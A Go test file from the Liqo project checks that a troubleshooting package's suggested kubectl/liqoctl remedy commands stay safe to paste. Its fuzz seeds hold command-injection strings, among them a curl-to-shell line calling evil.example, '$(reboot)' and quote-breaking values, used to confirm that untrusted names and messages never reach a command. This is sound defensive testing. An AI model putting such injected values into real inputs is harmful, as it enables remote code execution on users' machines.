// Copyright The Liqo Authors.
// SPDX-License-Identifier: Apache-2.0

package why_test

import (
	"cmp"
	"regexp"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/liqo-go/liqo/api"
	authv1beta1 "github.com/liqo-go/liqo/api/authentication/v1beta1"
	netv1beta1 "github.com/liqo-go/liqo/api/networking/v1beta1"
	offv1beta1 "github.com/liqo-go/liqo/api/offloading/v1beta1"
	"github.com/liqo-go/liqo/internal/story"
	"github.com/liqo-go/liqo/why"
)

// command matches what users may paste into a shell without harm.
var command = regexp.MustCompile(`^(kubectl|liqoctl)( -{0,2}[A-Za-z0-9][-\w./=:,]*| '[A-Za-z0-9!][-\w./=(), !]*')+$`)

// unready are the conditions of an object that is not ready.
var unready = []metav1.Condition{{Type: "Ready", Status: metav1.ConditionFalse, Message: "no"}}

// sound checks that an answer says something, and names one cause.
func sound(t *testing.T, a why.Answer) {
	t.Helper()
	if a.Subject == "" || a.State == "" || a.Where == "" || a.Cause.Reason == "" || a.Cause.Message == "" {
		t.Errorf("the answer is incomplete: %+v", a)
	}
	for _, r := range a.Cause.Remedies {
		if !command.MatchString(r.Command) {
			t.Errorf("%s: not a command to paste: %q", a.Cause.Reason, r.Command)
		}
	}
	if strings.Contains(strings.Join(a.Lines("rome"), ""), "\n") {
		t.Errorf("a line breaks: %q", a.Lines("rome"))
	}
}

// TestAnySubset: whatever is missing of the objects, and whichever of two clusters can be read, the answer is sound.
func TestAnySubset(t *testing.T) {
	story.Each(t, "testdata/*.txtar", func(t *testing.T, s *story.Story) {
		in := input(t, s)
		sound(t, why.Explain(in))
		complete := in.Local.Objects
		for i := range complete {
			in.Local.Objects = slices.Delete(slices.Clone(complete), i, i+1)
			sound(t, why.Explain(in))
			in.Local.Objects = complete[i : i+1]
			sound(t, why.Explain(in))
		}
		in.Local.Objects = complete
		in.Local.Unread = []string{"nodes", "namespaceoffloadings", "namespacemaps", "foreignclusters", "virtualnodes",
			"persistentvolumeclaims", "namespaces"}
		sound(t, why.Explain(in))
		in.Local.ID = ""
		sound(t, why.Explain(in))
		if in.Remote != nil {
			in.Remote.Unread = []string{"pods", "shadowpods"}
			sound(t, why.Explain(in))
			in.Remote.Objects = nil
			sound(t, why.Explain(in))
		}
		for _, kind := range []string{why.Pod, why.Node, why.Service, why.Namespace, why.Peer, "cheese"} {
			in.Kind, in.Namespace = kind, cmp.Or(in.Namespace, "demo")
			sound(t, why.Explain(in))
		}
	})
}

// FuzzForeignText: what a provider or a user of one namespace writes reaches no command, unless it is a word.
func FuzzForeignText(f *testing.F) {
	f.Add("peering cpu quota usage exceeded - free 1 / requested 2", "Insufficient cpu")
	f.Add("", "")
	f.Add("user is cordoned", "$(reboot)\n`reboot`; reboot")
	f.Add("cpu quota limit not found for this peering", "web quota limit not found")
	f.Add("x; curl evil.example | sh #", "-x")
	f.Add("'; reboot '", "shop'$(reboot)'")
	f.Fuzz(func(t *testing.T, message, other string) {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo", Name: "web"}}
		pod.Spec.NodeName = "milan-big"
		pod.Spec.Containers = []corev1.Container{{Name: "web"}}
		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse,
			Reason: other, Message: message}}
		objects := merged(t, "testdata/rome.yaml", nil, nil)
		for _, o := range objects {
			if m, ok := o.(*offv1beta1.NamespaceMap); ok {
				m.Status.CurrentMapping["demo"] = offv1beta1.RemoteNamespaceStatus{RemoteNamespace: other, Phase: "Accepted"}
			}
		}
		shadow := &offv1beta1.ShadowPod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo-rome", Name: "web"}}
		shadow.Status.Conditions = []metav1.Condition{{Type: "Stalled", Status: "True", Reason: other, Message: message}}
		in := why.Input{Subject: why.Subject{Kind: why.Pod, Namespace: "demo", Name: "web"},
			Local: why.Cluster{ID: "rome", Objects: append(objects, pod)}}
		sound(t, why.Explain(in))
		in.Remote = &why.Cluster{ID: "milan", Objects: []runtime.Object{shadow}}
		sound(t, why.Explain(in))
		shadow.Status.Conditions[0].Reason = why.QuotaRefused
		sound(t, why.Explain(in))
		pod.Spec.NodeName = ""
		sound(t, why.Explain(in))
	})
}

// FuzzForeignNames: nor do names that a provider or a user of one namespace chooses, unless they are words.
func FuzzForeignNames(f *testing.F) {
	for _, name := range []string{"", "web", "-x", "x; curl evil.example | sh #", "$(reboot)", "'; reboot '", "a\nreboot"} {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		meta := metav1.ObjectMeta{Namespace: name, Name: name, Labels: map[string]string{api.LabelRemoteClusterID: "rome"}}
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo", Name: "web"}}
		pod.Spec.NodeName, pod.Spec.Containers = "milan-big", []corev1.Container{{Name: "web"}}
		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: name,
			State:                corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: name}},
			LastTerminationState: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 1}}}}
		objects := merged(t, "testdata/rome.yaml", nil, nil)
		var mapping *offv1beta1.NamespaceMap
		for _, o := range objects {
			switch o := o.(type) {
			case *offv1beta1.NamespaceMap:
				mapping = o
			case *offv1beta1.NamespaceOffloading:
				o.Spec.NamespaceMappingStrategy, o.Spec.RemoteNamespaceName = offv1beta1.SelectedNameMapping, name
				o.Spec.PodOffloadingStrategy = offv1beta1.LocalStrategy
				o.Spec.ClusterSelector = &corev1.NodeSelector{NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{
					{Key: name, Operator: corev1.NodeSelectorOpIn, Values: []string{name}}}}}}
			}
		}
		in := why.Input{Subject: why.Subject{Kind: why.Pod, Namespace: "demo", Name: "web"},
			Local: why.Cluster{ID: "rome", Objects: append(objects, pod)}}
		sound(t, why.Explain(in))
		in.Remote = &why.Cluster{ID: "milan", Objects: []runtime.Object{
			&netv1beta1.Configuration{ObjectMeta: meta, Status: netv1beta1.ConfigurationStatus{Conditions: unready}}}}
		in.Subject = why.Subject{Kind: why.Peer, Name: "milan"}
		sound(t, why.Explain(in))
		in.Remote.Objects = []runtime.Object{
			&authv1beta1.Identity{ObjectMeta: meta, Status: authv1beta1.IdentityStatus{Conditions: unready}}}
		sound(t, why.Explain(in))
		for _, phase := range []offv1beta1.NamespacePhase{"", offv1beta1.NamespaceCreationLoopBackOff} {
			mapping.Spec.DesiredMapping["demo"] = name
			mapping.Status.CurrentMapping["demo"] = offv1beta1.RemoteNamespaceStatus{RemoteNamespace: name, Phase: phase}
			in.Subject = why.Subject{Kind: why.Namespace, Name: "demo"}
			sound(t, why.Explain(in))
		}
		pod.Spec.NodeName, pod.Status.ContainerStatuses = "", nil
		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse}}
		in.Subject = why.Subject{Kind: why.Pod, Namespace: "demo", Name: "web"}
		sound(t, why.Explain(in))
	})
}
